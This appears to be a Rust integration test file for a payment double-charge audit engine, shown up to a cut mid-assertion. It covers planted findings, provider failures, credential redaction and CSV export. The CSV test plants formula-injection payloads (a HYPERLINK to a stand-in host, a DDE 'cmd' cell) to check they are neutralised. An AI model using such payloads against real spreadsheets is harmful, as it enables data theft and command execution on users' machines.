//! The double-charge audit end to end: effects in a real ledger (SQLite file and
//! PostgreSQL), provider charges served over real HTTP on loopback (the demo provider, the
//! `http` protocol under wiremock, a raw TCP server that cuts its answer), the run stored in
//! the tenant's chain. Finds exactly what was planted, totals exact to the cent; a provider
//! failure anywhere in the import fails the run with its reason and records no findings.

use reckon_audit::FindingKind;
use reckon_domain::{SourceRecord, State, time};
use reckon_engine::audit::{
    AuditCtx, AuditRequest, CSV_HEADER, audit_day, day_window, findings_csv, run_audit, run_due,
    set_settings, verify,
};
use reckon_ledger::{
    AuditRun, IngestBatch, Keyring, Ledger, NewProvider, NewSource, Origin, SourceKind, TenantId,
};
use reckon_providers::GetClient;
use reckon_providers::demo::{DemoCharge, DemoState, serve_loopback};
use serde_json::{Value, json};
use sqlx::{AssertSqlSafe, Connection};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;
use std::time::Duration;

const TZ: &str = "America/New_York";
const DAY: &str = "2026-11-28";
/// Midnight in New York on DAY is 05:00 UTC (EST, UTC-5).
const START: f64 = 1_795_842_000.0;
const END: f64 = START + 86_400.0;

// The harness.

enum Db {
    Sqlite(tempfile::TempDir),
    Postgres { admin: String, name: String },
}

struct World {
    ledger: Arc<dyn Ledger>,
    db: Db,
}

fn keyring() -> Keyring {
    Keyring::from_base64("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=").unwrap()
}

fn pg_admin() -> String {
    std::env::var("RECKON_TEST_PG_URL")
        .ok()
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "postgres://postgres@127.0.0.1:5432/postgres".into())
}

fn pg_url(admin: &str, name: &str) -> String {
    let base = admin.split('?').next().unwrap();
    let (base, _) = base.rsplit_once('/').unwrap();
    format!("{base}/{name}")
}

impl World {
    async fn sqlite() -> World {
        let dir = tempfile::tempdir().unwrap();
        let ledger = reckon_ledger::connect(None, dir.path(), keyring())
            .await
            .unwrap();
        World {
            ledger,
            db: Db::Sqlite(dir),
        }
    }

    async fn postgres() -> World {
        let admin = pg_admin();
        let name = format!("reckon_audit_{:016x}", rand::random::<u64>());
        let mut c = sqlx::PgConnection::connect(&admin)
            .await
            .unwrap_or_else(|e| panic!("PostgreSQL at {admin}: {e}"));
        sqlx::raw_sql(AssertSqlSafe(format!("CREATE DATABASE \"{name}\"")))
            .execute(&mut c)
            .await
            .unwrap();
        c.close().await.ok();
        let ledger = reckon_ledger::connect(
            Some(&pg_url(&admin, &name)),
            std::env::temp_dir().as_path(),
            keyring(),
        )
        .await
        .unwrap();
        World {
            ledger,
            db: Db::Postgres { admin, name },
        }
    }

    /// Another process's view of the same ledger (a second replica).
    async fn replica(&self) -> Arc<dyn Ledger> {
        match &self.db {
            Db::Sqlite(_) => self.ledger.clone(),
            Db::Postgres { admin, name } => reckon_ledger::connect(
                Some(&pg_url(admin, name)),
                std::env::temp_dir().as_path(),
                keyring(),
            )
            .await
            .unwrap(),
        }
    }

    /// Run raw SQL as the database's owner (an attacker with database access).
    async fn raw(&self, sql: &str) {
        match &self.db {
            Db::Sqlite(dir) => {
                let url = format!("sqlite://{}", dir.path().join("reckon.db").display());
                let mut c = sqlx::SqliteConnection::connect(&url).await.unwrap();
                sqlx::raw_sql(AssertSqlSafe(sql.to_owned()))
                    .execute(&mut c)
                    .await
                    .unwrap();
            }
            Db::Postgres { admin, name } => {
                let mut c = sqlx::PgConnection::connect(&pg_url(admin, name))
                    .await
                    .unwrap();
                sqlx::raw_sql(AssertSqlSafe(sql.to_owned()))
                    .execute(&mut c)
                    .await
                    .unwrap();
            }
        }
    }

    async fn finish(self) {
        let World { ledger, db } = self;
        drop(ledger);
        if let Db::Postgres { admin, name } = db
            && let Ok(mut c) = sqlx::PgConnection::connect(&admin).await
        {
            let _ = sqlx::raw_sql(AssertSqlSafe(format!(
                "DROP DATABASE IF EXISTS \"{name}\" WITH (FORCE)"
            )))
            .execute(&mut c)
            .await;
        }
    }
}

async fn tenant_with_source(ledger: &dyn Ledger, slug: &str) -> (TenantId, i64) {
    let t = ledger.create_tenant(slug).await.unwrap();
    let s = ledger
        .add_source(
            t.id,
            NewSource {
                name: "shop".into(),
                kind: SourceKind::Push,
                dsn: None,
                dsn_display: None,
                table_name: "justonce_keys".into(),
                scan_interval_secs: 60,
                abandoned_after_secs: 300.0,
                overlap_secs: 5.0,
                full_scan_every_secs: 3600,
                mapping: None,
            },
        )
        .await
        .unwrap();
    (t.id, s.id)
}

async fn ingest(ledger: &dyn Ledger, tenant: TenantId, source: i64, records: Vec<SourceRecord>) {
    ledger
        .ingest(
            tenant,
            source,
            IngestBatch {
                origin: Origin::Push,
                observed_at: time::now(),
                records,
                rejected: vec![],
                abandoned_after_secs: 300.0,
                cursor: None,
                lease: None,
                expect_new: false,
            },
        )
        .await
        .unwrap();
}

async fn add_provider(ledger: &dyn Ledger, tenant: TenantId, kind: &str, settings: Value) {
    ledger
        .add_provider(
            tenant,
            NewProvider {
                name: "pay".into(),
                kind: reckon_ledger::ProviderKind::parse(kind).unwrap(),
                secret: None,
                settings,
            },
        )
        .await
        .unwrap();
}

fn record(key: &str, state: State, at: f64) -> SourceRecord {
    SourceRecord {
        key: key.into(),
        state,
        request_hash: "1:9f86d081884c7d65".into(),
        response: None,
        attempts: 1,
        created_at: at,
        updated_at: at + 2.0,
        expires_at: None,
    }
}

fn charge(id: &str, key: &str, amount: i64, currency: &str, at: f64) -> DemoCharge {
    DemoCharge {
        id: id.into(),
        key: key.into(),
        status: "succeeded".into(),
        amount,
        currency: currency.into(),
        created: at,
        refunds: vec![],
        metadata: BTreeMap::new(),
        customer: Some("cus_1".into()),
    }
}

fn ctx(ledger: Arc<dyn Ledger>) -> AuditCtx {
    let mut c = AuditCtx::new(ledger);
    c.client = GetClient::new(Duration::from_millis(1500));
    // The providers of these tests listen on loopback, which the default policy refuses.
    c.egress = std::sync::Arc::new(
        reckon_sources::EgressPolicy::new(&["127.0.0.0/8".to_owned()], None).unwrap(),
    );
    c
}

fn request(date: &str) -> AuditRequest {
    AuditRequest {
        date: Some(date.into()),
        provider: None,
        triggered_by: "operator".into(),
        now: time::now(),
    }
}

/// Findings of `kind`: their effect keys (joined), or their charge ids when no effect.
fn found(run: &AuditRun, kind: &str) -> BTreeSet<String> {
    run.run
        .findings
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == kind)
        .map(|f| {
            let mut ks: Vec<String> = f["effects"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["key"].as_str().unwrap().to_owned())
                .collect();
            if ks.is_empty() {
                ks = f["charges"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|c| c["id"].as_str().unwrap().to_owned())
                    .collect();
            }
            ks.sort();
            ks.join("+")
        })
        .collect()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(std::string::ToString::to_string).collect()
}

// The planted day.

struct Planted {
    records: Vec<SourceRecord>,
    charges: Vec<DemoCharge>,
}

fn planted_day() -> Planted {
    let mut r = Vec::new();
    let mut c = Vec::new();
    // 240 ordinary charges in two currencies, matched by the key the request carried, or
    // by the charge id the application recorded in its response.
    for i in 0..240i64 {
        let at = START + 120.0 + i as f64 * 350.0;
        let cur = if i % 3 == 0 { "eur" } else { "usd" };
        let key = format!("charge:v1:ORD-{i}");
        let id = format!("ch_ord_{i}");
        if i % 2 == 0 {
            r.push(record(&key, State::Succeeded, at));
            c.push(charge(&id, &key, 1000 + i, cur, at + 1.5));
        } else {
            let mut rec = record(&key, State::Succeeded, at);
            rec.response = Some(json!({"charge": id}).to_string());
            r.push(rec);
            c.push(charge(&id, "", 2000 + i, cur, at + 1.5));
        }
        // Every order also sends a receipt: no provider is routed for it, so it can be
        // neither missing nor matched.
        r.push(record(
            &format!("send_receipt:v1:ORD-{i}"),
            State::Succeeded,
            at + 3.0,
        ));
    }
    let h = START + 5.0 * 3600.0;
    // Duplicates (3): two charges under one key; a pair whose second charge was refunded
    // as `duplicate`; a pair tied only by the order reference in metadata.
    r.push(record("charge:v1:DUP-1", State::Succeeded, h));
    c.push(charge("ch_dup1_a", "charge:v1:DUP-1", 4200, "usd", h + 1.0));
    c.push(charge(
        "ch_dup1_b",
        "charge:v1:DUP-1",
        4200,
        "usd",
        h + 40.0,
    ));
    r.push(record("charge:v1:DUP-2", State::Succeeded, h + 100.0));
    c.push(charge(
        "ch_dup2_a",
        "charge:v1:DUP-2",
        990,
        "eur",
        h + 101.0,
    ));
    let mut refunded = charge("ch_dup2_b", "charge:v1:DUP-2", 990, "eur", h + 130.0);
    refunded.refunds = vec![("re_dup2".into(), 990, Some("duplicate".into()))];
    c.push(refunded);
    r.push(record("charge:v1:DUP-3", State::Succeeded, h + 200.0));
    let mut a = charge("ch_dup3_a", "charge:v1:DUP-3", 1500, "usd", h + 201.0);
    a.metadata.insert("order_id".into(), "DUP-3".into());
    c.push(a);
    let mut b = charge("ch_dup3_b", "", 1500, "usd", h + 900.0);
    b.metadata.insert("order_id".into(), "DUP-3".into());
    c.push(b);
    // Orphans (2); a failed charge with no effect moved no money and is not a finding.
    c.push(charge("ch_orphan_1", "", 777, "usd", START + 7200.0));
    c.push(charge("ch_orphan_2", "", 31_400, "eur", START + 7300.0));
    let mut failed = charge("ch_failed", "", 100, "usd", START + 7400.0);
    failed.status = "failed".into();
    c.push(failed);
    // Missing (2): recorded succeeded, nothing at the provider.
    r.push(record("charge:v1:MISS-1", State::Succeeded, START + 9000.0));
    let mut m2 = record("charge:v1:MISS-2", State::Succeeded, START + 9100.0);
    m2.response = Some(json!({"charge": "ch_9999"}).to_string());
    r.push(m2);
    // Unresolved (2): one unknown, one abandoned claim.
    r.push(record("charge:v1:UNK-1", State::Unknown, START + 10_000.0));
    let mut abn = record("charge:v1:ABN-1", State::InProgress, START + 10_200.0);
    abn.expires_at = Some(START + 10_260.0);
    r.push(abn);
    // A risky reclaim (1): claimed twice, charged once.
    let mut rcl = record("charge:v1:RCL-1", State::Succeeded, START + 11_000.0);
    rcl.attempts = 2;
    r.push(rcl);
    c.push(charge(
        "ch_rcl",
        "charge:v1:RCL-1",
        2500,
        "usd",
        START + 11_001.0,
    ));
    // Split intents (2): a version bump, and a timestamp in the key; each key charged.
    for (k, id, amount, cur, at) in [
        (
            "charge:v1:SPL-1",
            "ch_spl1_a",
            6000,
            "usd",
            START + 12_000.0,
        ),
        (
            "charge:v2:SPL-1",
            "ch_spl1_b",
            6000,
            "usd",
            START + 12_500.0,
        ),
        (
            "charge:v1:SPL-2:1795860000",
            "ch_spl2_a",
            800,
            "eur",
            START + 13_000.0,
        ),
        (
            "charge:v1:SPL-2:1795860600",
            "ch_spl2_b",
            800,
            "eur",
            START + 13_600.0,
        ),
    ] {
        r.push(record(k, State::Succeeded, at));
        c.push(charge(id, k, amount, cur, at + 1.0));
    }
    // Midnight in New York. Claimed 10 s before the day ends and charged 5 s after it: matched,
    // the charge is tomorrow's. Claimed 1 s before the day began, charged 1 s into it: the
    // charge is today's and matched (no orphan), the effect yesterday's.
    r.push(record("charge:v1:EDGE-1", State::Succeeded, END - 10.0));
    c.push(charge(
        "ch_edge1",
        "charge:v1:EDGE-1",
        1200,
        "usd",
        END + 5.0,
    ));
    r.push(record("charge:v1:EDGE-2", State::Succeeded, START - 1.0));
    c.push(charge(
        "ch_edge2",
        "charge:v1:EDGE-2",
        1300,
        "usd",
        START + 1.0,
    ));
    // Orphans of the neighbouring days, and an unknown effect of yesterday: not today's.
    c.push(charge("ch_before", "", 4400, "usd", START - 2.0));
    c.push(charge("ch_after", "", 4500, "usd", END));
    r.push(record("charge:v1:UNK-OLD", State::Unknown, START - 30.0));
    Planted {
        records: r,
        charges: c,
    }
}

/// Totals of the day computed from the planted charges alone, per currency:
/// (charged, refunded, unmatched).
fn expected_totals(p: &Planted) -> BTreeMap<String, (i64, i64, i64)> {
    let mut t: BTreeMap<String, (i64, i64, i64)> = BTreeMap::new();
    for c in &p.charges {
        if c.status != "succeeded" || c.created < START || c.created >= END {
            continue;
        }
        let e = t.entry(c.currency.clone()).or_default();
        e.0 += c.amount;
        e.1 += c.refunds.iter().map(|r| r.1).sum::<i64>();
        if c.id.starts_with("ch_orphan") {
            e.2 += c.amount;
        }
    }
    t
}

async fn planted_world(w: &World) -> (TenantId, Planted) {
    let (t, source) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    set_settings(w.ledger.as_ref(), t, Some(TZ), None)
        .await
        .unwrap();
    let p = planted_day();
    ingest(w.ledger.as_ref(), t, source, p.records.clone()).await;
    let demo = DemoState::new();
    for c in &p.charges {
        demo.add(c.clone());
    }
    let (base, _server) = serve_loopback(demo).await.unwrap();
    // The server task lives as long as the runtime of the test.
    std::mem::forget(_server);
    add_provider(w.ledger.as_ref(), t, "demo", json!({ "base_url": base })).await;
    w.ledger
        .set_route(t, "shop", "charge", Some("pay"))
        .await
        .unwrap();
    w.ledger
        .set_route(t, "shop", "send_receipt", None)
        .await
        .unwrap();
    (t, p)
}

async fn the_planted_day_through_the_whole_pipeline(w: World) {
    let (t, p) = planted_world(&w).await;
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(run.run.status, "complete", "{:?}", run.run.reason);
    assert_eq!((run.run.window_start, run.run.window_end), (START, END));
    assert_eq!(run.run.time_zone, TZ);

    assert_eq!(
        found(&run, "duplicate"),
        set(&["charge:v1:DUP-1", "charge:v1:DUP-2", "charge:v1:DUP-3"])
    );
    assert_eq!(found(&run, "orphan"), set(&["ch_orphan_1", "ch_orphan_2"]));
    assert_eq!(
        found(&run, "missing"),
        set(&["charge:v1:MISS-1", "charge:v1:MISS-2"])
    );
    assert_eq!(
        found(&run, "unresolved"),
        set(&["charge:v1:ABN-1", "charge:v1:UNK-1"])
    );
    assert_eq!(found(&run, "risky_reclaim"), set(&["charge:v1:RCL-1"]));
    assert_eq!(
        found(&run, "split_intent"),
        set(&[
            "charge:v1:SPL-1+charge:v2:SPL-1",
            "charge:v1:SPL-2:1795860000+charge:v1:SPL-2:1795860600"
        ])
    );
    let findings = run.run.findings.as_array().unwrap();
    assert_eq!(findings.len(), 3 + 2 + 2 + 2 + 1 + 2, "nothing spurious");
    assert_eq!(run.run.counts["findings"]["duplicate"], 3);

    // The duplicates' money, exact: DUP-2's extra charge was refunded as duplicate.
    let dup = |key: &str| {
        findings
            .iter()
            .find(|f| {
                f["kind"] == "duplicate"
                    && f["effects"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|e| e["key"] == key)
            })
            .unwrap()
            .clone()
    };
    assert_eq!(
        (
            dup("charge:v1:DUP-1")["amount"].clone(),
            dup("charge:v1:DUP-1")["refunded"].clone()
        ),
        (json!(4200), json!(false))
    );
    assert_eq!(
        dup("charge:v1:DUP-2")["refunded"],
        true,
        "listed, as refunded"
    );
    assert_eq!(dup("charge:v1:DUP-2")["amount"], 0);
    assert_eq!(dup("charge:v1:DUP-3")["amount"], 1500);

    // Totals to the cent, from the planted charges alone.
    let want = expected_totals(&p);
    let got: BTreeMap<String, (i64, i64, i64, i64, i64)> = run
        .run
        .totals
        .as_array()
        .unwrap()
        .iter()
        .map(|x| {
            (
                x["currency"].as_str().unwrap().to_owned(),
                (
                    x["charged"].as_i64().unwrap(),
                    x["refunded"].as_i64().unwrap(),
                    x["net"].as_i64().unwrap(),
                    x["matched"].as_i64().unwrap(),
                    x["unmatched"].as_i64().unwrap(),
                ),
            )
        })
        .collect();
    assert_eq!(got.len(), 2, "{got:?}");
    for (cur, (charged, refunded, unmatched)) in &want {
        let g = got[cur];
        assert_eq!(g.0, *charged, "{cur} charged");
        assert_eq!(g.1, *refunded, "{cur} refunded");
        assert_eq!(g.2, charged - refunded, "{cur} net");
        assert_eq!(g.3, charged - unmatched, "{cur} matched");
        assert_eq!(g.4, *unmatched, "{cur} unmatched");
    }
    assert_eq!(want["usd"].2, 777);
    assert_eq!(want["eur"].2, 31_400);

    // The charges are stored with their raw objects as evidence; the pages are in the run.
    let stored = w
        .ledger
        .provider_charges(t, None, START - 3600.0, END + 3600.0)
        .await
        .unwrap();
    assert_eq!(stored.len(), p.charges.len());
    let refunded = stored.iter().find(|c| c.charge_id == "ch_dup2_b").unwrap();
    assert_eq!(refunded.amount_refunded, 990);
    assert_eq!(refunded.refunds[0]["reason"], "duplicate");
    assert_eq!(refunded.raw["id"], "ch_dup2_b");
    let pages = run.run.evidence["pages"].as_array().unwrap();
    assert_eq!(pages.len(), 3, "the demo pages by 100: {pages:?}");
    assert_eq!(pages[2]["cursor"], "200");
    let listed: u64 = pages.iter().map(|p| p["in_window"].as_u64().unwrap()).sum();
    assert_eq!(listed as usize, p.charges.len());

    // The same run read back is the same run, and the chain of one checks out.
    let back = w.ledger.get_audit_run(t, run.id).await.unwrap().unwrap();
    assert_eq!(back, run);
    let (n, breaks) = verify(w.ledger.as_ref(), t).await.unwrap();
    assert_eq!((n, breaks.len()), (1, 0));

    // An unknown effect resolved since (here by hand) is no longer unresolved, whatever
    // its source row still says; the abandoned claim still is.
    let unk = w
        .ledger
        .get_effect(t, "shop", "charge:v1:UNK-1")
        .await
        .unwrap()
        .unwrap()
        .effect;
    w.ledger
        .resolve_by_hand(
            t,
            unk.id,
            reckon_ledger::NewResolution {
                outcome: reckon_ledger::Outcome::NotApplied,
                author: "user:finance@acme.test".into(),
                note: Some("no charge in the provider's dashboard".into()),
                evidence: json!({}),
            },
        )
        .await
        .unwrap();
    let again = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(found(&again, "unresolved"), set(&["charge:v1:ABN-1"]));
    assert_eq!(found(&again, "duplicate").len(), 3, "the rest as before");

    // The audit reads every field of a charge but the provider's object (kilobytes each,
    // at a real provider): with every stored object made unreadable, the whole-record read
    // fails and the day still audits to the same findings.
    w.raw("UPDATE provider_charge SET raw = 'not json'").await;
    assert!(
        w.ledger
            .provider_charges(t, None, START - 3600.0, END + 3600.0)
            .await
            .is_err()
    );
    let window = day_window(w.ledger.as_ref(), t, Some(DAY), time::now())
        .await
        .unwrap();
    let providers = w.ledger.list_providers(t).await.unwrap();
    let report = audit_day(w.ledger.as_ref(), t, &window, &providers, time::now())
        .await
        .unwrap();
    let kinds = |kind: FindingKind| report.count(kind) as i64;
    for kind in FindingKind::ALL {
        assert_eq!(
            json!(kinds(kind)),
            again.run.counts["findings"][kind.as_str()],
            "{kind:?}"
        );
    }
    // The run keeps a summary of its matches, not the list (as long as the day): their
    // count, by method, and the digest of the list this audit of the day found again.
    let summary = &again.run.evidence["matches"];
    assert!(summary.is_object(), "{summary}");
    assert_eq!(summary["count"], again.run.counts["matches"]);
    assert_eq!(summary["count"], json!(report.matches.len()));
    let by_method: i64 = summary["by_method"]
        .as_object()
        .unwrap()
        .values()
        .map(|n| n.as_i64().unwrap())
        .sum();
    assert_eq!(json!(by_method), summary["count"]);
    assert_eq!(*summary, reckon_audit::matches_summary(&report.matches));
    w.finish().await;
}

#[tokio::test]
async fn the_planted_day_finds_exactly_the_planted_problems_with_exact_totals_on_sqlite() {
    the_planted_day_through_the_whole_pipeline(World::sqlite().await).await;
}

#[tokio::test]
async fn the_planted_day_finds_exactly_the_planted_problems_with_exact_totals_on_postgres() {
    the_planted_day_through_the_whole_pipeline(World::postgres().await).await;
}

// Provider failures.

/// A tenant whose effects exist and whose `http` provider at `base` fails somewhere.
async fn failing_world(base: &str) -> (World, TenantId) {
    let w = World::sqlite().await;
    let (t, source) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    set_settings(w.ledger.as_ref(), t, Some(TZ), None)
        .await
        .unwrap();
    ingest(
        w.ledger.as_ref(),
        t,
        source,
        vec![
            record("charge:v1:A", State::Succeeded, START + 100.0),
            record("charge:v1:B", State::Unknown, START + 200.0),
        ],
    )
    .await;
    add_provider(
        w.ledger.as_ref(),
        t,
        "http",
        json!({ "base_url": base, "rate_per_sec": 0 }),
    )
    .await;
    w.ledger
        .set_route(t, "shop", "*", Some("pay"))
        .await
        .unwrap();
    (w, t)
}

fn page(ids: &[&str], next: Option<&str>) -> Value {
    json!({
        "objects": ids.iter().map(|id| json!({
            "id": id, "status": "succeeded", "amount": 100, "currency": "usd",
            "created": START + 50.0, "idempotency_key": "charge:v1:A"
        })).collect::<Vec<_>>(),
        "next_cursor": next,
    })
}

/// Pages 1 and 2 answer; page 3 answers with `third`.
async fn three_pages(third: wiremock::ResponseTemplate) -> wiremock::MockServer {
    let server = wiremock::MockServer::start().await;
    mount_three_pages(&server, third).await;
    server
}

async fn mount_three_pages(server: &wiremock::MockServer, third: wiremock::ResponseTemplate) {
    use wiremock::matchers::{method, path, query_param, query_param_is_missing};
    use wiremock::{Mock, ResponseTemplate};
    Mock::given(method("GET"))
        .and(path("/charges"))
        .and(query_param_is_missing("cursor"))
        .respond_with(ResponseTemplate::new(200).set_body_json(page(&["c1"], Some("p2"))))
        .mount(server)
        .await;
    Mock::given(method("GET"))
        .and(path("/charges"))
        .and(query_param("cursor", "p2"))
        .respond_with(ResponseTemplate::new(200).set_body_json(page(&["c2"], Some("p3"))))
        .mount(server)
        .await;
    Mock::given(method("GET"))
        .and(path("/charges"))
        .and(query_param("cursor", "p3"))
        .respond_with(third)
        .mount(server)
        .await;
}

/// The run failed with a reason naming `words`, recorded no findings, and stored no charge.
async fn assert_failed_run(w: World, t: TenantId, words: &[&str]) {
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(run.run.status, "failed");
    let reason = run.run.reason.clone().unwrap();
    for word in words {
        assert!(reason.contains(word), "{word:?} not in {reason:?}");
    }
    assert_eq!(run.run.findings, json!([]), "no findings of a partial day");
    assert_eq!(run.run.totals, json!([]));
    assert!(
        run.run.counts["findings"]
            .as_object()
            .unwrap()
            .values()
            .all(|v| v == 0)
    );
    let stored = w
        .ledger
        .provider_charges(t, None, START - 3600.0, END + 3600.0)
        .await
        .unwrap();
    assert!(
        stored.is_empty(),
        "a failed import stores nothing: {stored:?}"
    );
    // The failed run is in the chain, as failed, and no completed run of the day exists.
    let runs = w.ledger.list_audit_runs(t, Some(DAY), 10).await.unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].run.status, "failed");
    assert_eq!(verify(w.ledger.as_ref(), t).await.unwrap().1, vec![]);
    w.finish().await;
}

#[tokio::test]
async fn a_5xx_on_page_3_fails_the_run_with_that_reason_and_records_no_findings() {
    let server = three_pages(wiremock::ResponseTemplate::new(503)).await;
    let (w, t) = failing_world(&server.uri()).await;
    assert_failed_run(w, t, &["page 3", "server error", "503"]).await;
}

/// A provider whose error echoes a credential: the stored run (shown to finance) holds the
/// provider's message without it.
#[tokio::test]
async fn a_credential_in_a_providers_error_is_redacted_from_the_stored_run() {
    let server = three_pages(wiremock::ResponseTemplate::new(401).set_body_json(json!({
        "error": {"message": "Invalid API Key provided: sk_live_AuditCanary0123456789"}
    })))
    .await;
    let (w, t) = failing_world(&server.uri()).await;
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    assert_eq!(run.run.status, "failed");
    let stored =
        serde_json::to_string(&w.ledger.list_audit_runs(t, Some(DAY), 10).await.unwrap()).unwrap();
    assert!(
        stored.contains("Invalid API Key provided: [redacted]"),
        "{stored}"
    );
    assert!(!stored.contains("AuditCanary"), "{stored}");
    w.finish().await;
}

#[tokio::test]
async fn a_timeout_on_page_3_fails_the_run_with_that_reason_and_records_no_findings() {
    let server = three_pages(
        wiremock::ResponseTemplate::new(200)
            .set_body_json(page(&["c3"], None))
            .set_delay(Duration::from_secs(5)),
    )
    .await;
    let (w, t) = failing_world(&server.uri()).await;
    assert_failed_run(w, t, &["page 3", "timeout"]).await;
}

#[tokio::test]
async fn a_malformed_page_3_fails_the_run_with_that_reason_and_records_no_findings() {
    let server = three_pages(wiremock::ResponseTemplate::new(200).set_body_raw(
        r#"{"objects": [{"id": "c3", "status": "succ"#,
        "application/json",
    ))
    .await;
    let (w, t) = failing_world(&server.uri()).await;
    assert_failed_run(w, t, &["page 3", "malformed"]).await;
}

#[tokio::test]
async fn a_page_without_its_end_marker_fails_the_run_and_records_no_findings() {
    let server =
        three_pages(wiremock::ResponseTemplate::new(200).set_body_json(json!({"objects": []})))
            .await;
    let (w, t) = failing_world(&server.uri()).await;
    assert_failed_run(w, t, &["page 3", "next_cursor"]).await;
}

/// A server that promises 4000 bytes and hangs up after a few: the page is cut off.
async fn truncating_server() -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut sock, _)) = listener.accept().await else {
                return;
            };
            let mut buf = [0u8; 4096];
            let _ = sock.read(&mut buf).await;
            let body = r#"{"objects":[{"id":"c1","status":"succeeded","#;
            let head = format!(
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 4000\r\n\r\n{body}"
            );
            let _ = sock.write_all(head.as_bytes()).await;
            let _ = sock.flush().await;
            drop(sock);
        }
    });
    format!("http://{addr}")
}

#[tokio::test]
async fn a_truncated_page_fails_the_run_with_that_reason_and_records_no_findings() {
    let base = truncating_server().await;
    let (w, t) = failing_world(&base).await;
    assert_failed_run(w, t, &["page 1", "truncated"]).await;
}

#[tokio::test]
async fn stripe_has_more_without_a_cursor_fails_the_run_and_records_no_findings() {
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v1/charges"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            json!({"object": "list", "url": "/v1/charges", "has_more": true, "data": []}),
        ))
        .mount(&server)
        .await;
    let w = World::sqlite().await;
    let (t, _) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    set_settings(w.ledger.as_ref(), t, Some(TZ), None)
        .await
        .unwrap();
    w.ledger
        .add_provider(
            t,
            NewProvider {
                name: "pay".into(),
                kind: reckon_ledger::ProviderKind::Stripe,
                secret: Some(secrecy::SecretString::from("sk_test_audit".to_owned())),
                settings: json!({ "base_url": server.uri(), "mode": "test",
                                  "list_objects": ["charges"], "rate_per_sec": 0 }),
            },
        )
        .await
        .unwrap();
    assert_failed_run(w, t, &["stripe.list.charges", "page 1", "has_more"]).await;
}

// CSV.

#[tokio::test]
async fn the_csv_parses_back_one_row_per_finding_and_a_planted_formula_is_neutralised() {
    let w = World::sqlite().await;
    let (t, source) = tenant_with_source(w.ledger.as_ref(), "acme").await;
    set_settings(w.ledger.as_ref(), t, Some(TZ), None)
        .await
        .unwrap();
    let evil = r#"=HYPERLINK("http://evil.test/?x","click me")"#;
    ingest(
        w.ledger.as_ref(),
        t,
        source,
        vec![
            // A key that is a formula, recorded succeeded, never charged: a `missing` row.
            record(evil, State::Succeeded, START + 100.0),
            record("charge:v1:ok", State::Succeeded, START + 200.0),
        ],
    )
    .await;
    let demo = DemoState::new();
    demo.add(charge("ch_ok", "charge:v1:ok", 1234, "usd", START + 201.0));
    // An orphan whose id and customer a provider let someone choose.
    let mut o = charge("@SUM(1+1)", "", 500, "usd", START + 300.0);
    o.customer = Some("+cmd|' /C calc'!A0".into());
    o.metadata.insert("note".into(), evil.into());
    demo.add(o);
    let (base, server) = serve_loopback(demo).await.unwrap();
    add_provider(w.ledger.as_ref(), t, "demo", json!({ "base_url": base })).await;
    w.ledger
        .set_route(t, "shop", "*", Some("pay"))
        .await
        .unwrap();
    let run = run_audit(&ctx(w.ledger.clone()), t, &request(DAY), None)
        .await
        .unwrap();
    server.abort();
    assert_eq!(run.run.status, "complete", "{:?}", run.run.reason);
    assert_eq!(found(&run, "missing"), set(&[evil]));
    assert_eq!(found(&run, "orphan"), set(&["@SUM(1+1)"]));

    let text = findings_csv(&run).unwrap();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, CSV_HEADER.to_vec());
    let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
    assert_eq!(
        rows.len(),
        run.run.findings.as_array().unwrap().len() + run.run.totals.as_array().unwrap().len(),
        "a row per finding, then a row per currency's totals"
    );
    for row in &rows {
        assert_eq!(row.len(), CSV_HEADER.len());
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let col = |name: &str| CSV_HEADER.iter().position(|h| *h == name).unwrap();
    let missing = rows.iter().find(|r| &r[col("kind")] == "missing").unwrap();
    assert_eq!(&missing[col("effect_keys")], format!("'{evil}"));
    assert!(missing[col("summary")].starts_with("'=HYPERLINK("));
    let orphan = rows.iter().find(|r| &r[col("kind")] == "orphan").unwrap();
    assert_eq!(&orphan[col("charge_ids")], "'@SUM(1+1)");
    assert_eq!(&orphan[col("charge_customers")], "'+cmd|' /C calc'!A0");
    // The orphan's metadata, as the provider holds it (the only trace of its order).
    assert!(
        orphan[col("charge_metadata")].contains("\"note\""),
        "{orphan:?}"
    );
    assert_eq!(&orphan[col("amount")], "5.00");
    assert_eq!(&orphan[col("currency")], "USD");
    assert_eq!(&orphan[col("amount_minor")], "500");
    assert_eq!(&orphan[col("charge_amounts")], "5.00");
    assert_eq!(&orphan[col("charge_refunded")], "0.00");
    assert_eq!(&orphan[col("day")], DAY);
    let total = rows.iter().find(|r| &r[col("kind")] == "total").unwrap();
    assert_eq!(&total[col("currency")], "USD");
    assert!(total[col("summary")].starts_with("charged "), "{total:?}");
    assert!(
        total[col("amount_minor")].parse::<i64>().is_ok(),
